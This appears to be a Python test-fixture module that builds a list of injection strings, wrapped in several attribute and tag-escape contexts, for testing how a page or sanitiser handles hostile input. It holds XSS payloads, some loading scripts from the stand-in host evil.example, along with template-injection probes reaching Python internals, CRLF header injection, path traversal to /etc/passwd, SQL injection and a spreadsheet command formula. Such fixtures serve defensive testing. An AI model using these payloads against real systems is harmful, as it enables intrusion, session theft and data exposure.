"""Texts that would do something if a page took them for more than text: 200 of them, each different."""

from __future__ import annotations

from typing import Final

#: What every text tries to do: leave a mark that a test finds, or ask another machine.
_MARK: Final = "window.pwned=1"
_ELSEWHERE: Final = "http://evil.example/x"

_SCRIPTS: Final = (
    f"<script>{_MARK}</script>",
    f"<ScRiPt>{_MARK}</sCrIpT>",
    f"<script src={_ELSEWHERE}></script>",
    f"<img src=x onerror={_MARK}>",
    f"<img src={_ELSEWHERE}>",
    f"<svg onload={_MARK}>",
    f"<svg><script>{_MARK}</script></svg>",
    f"<iframe src=javascript:{_MARK}></iframe>",
    f"<iframe srcdoc='<script>parent.{_MARK[7:]}</script>'></iframe>",
    f"<a href=javascript:{_MARK}>x</a>",
    f"<body onload={_MARK}>",
    f"<details open ontoggle={_MARK}>",
    f"<input autofocus onfocus={_MARK}>",
    f"<style>@import '{_ELSEWHERE}';</style>",
    f"<link rel=stylesheet href={_ELSEWHERE}>",
    f"<base href={_ELSEWHERE}>",
    f"<meta http-equiv=refresh content='0;url={_ELSEWHERE}'>",
    f"<form action={_ELSEWHERE}><button autofocus>x</button></form>",
    f"<object data={_ELSEWHERE}></object>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_MARK}>",
    f"<noscript><p title='</noscript><img src=x onerror={_MARK}>'>",
    f"<template><script>{_MARK}</script></template>",
    f"<div hx-get={_ELSEWHERE} hx-trigger=load>x</div>",
    f"<div hx-on::load={_MARK}>x</div>",
    f"<div data-hx-on:click={_MARK} hx-trigger='load[{_MARK}]' hx-get=/>x</div>",
    f"<div hx-vals='js:{{a:{_MARK}}}' hx-get=/ hx-trigger=load>x</div>",
    f"<div data-events={_ELSEWHERE}>x</div>",
    "{{ 7*7 }}{{ cycler.__init__.__globals__ }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    f"${{{_MARK}}} #{{{_MARK}}}",
    f"javascript:{_MARK}",
    f"data:text/html,<script>{_MARK}</script>",
    f"';{_MARK};//",
    f'";{_MARK};//',
    f"</script><script>{_MARK}</script>",
    f"--><script>{_MARK}</script><!--",
    f"]]><script>{_MARK}</script>",
    f"<![CDATA[<script>{_MARK}</script>]]>",
    "\r\nSet-Cookie: pwned=1\r\n\r\n<script>1</script>",
    "\x1b[31m\x07\x08\x7f\u202e\u2066gnirts\u2069\u200b\ufeff",
    "\u2028\u2029</title><plaintext>",
    "&lt;script&gt;&#60;script&#62;&amp;",
    "A" * 2_000,
    "%3Cscript%3E%00%0d%0a..%2f..%2f",
    "../../../../etc/passwd",
    "' OR 1=1 --",
    "\U0001f600\u0301\u0301\u0301\u0301 \ud7ff \ufffd",
    "=cmd|' /C calc'!A0",
    "__proto__",
    "constructor",
)
#: Where the text might stand: bare, behind the end of an attribute, of a title, of a field.
_FRAMES: Final = ("{}", '"><b>{}', "'>{}", "</textarea></title></style></td></table>{}")

HOSTILE: Final = tuple(frame.format(text) if frame != "{}" else text for text in _SCRIPTS for frame in _FRAMES)
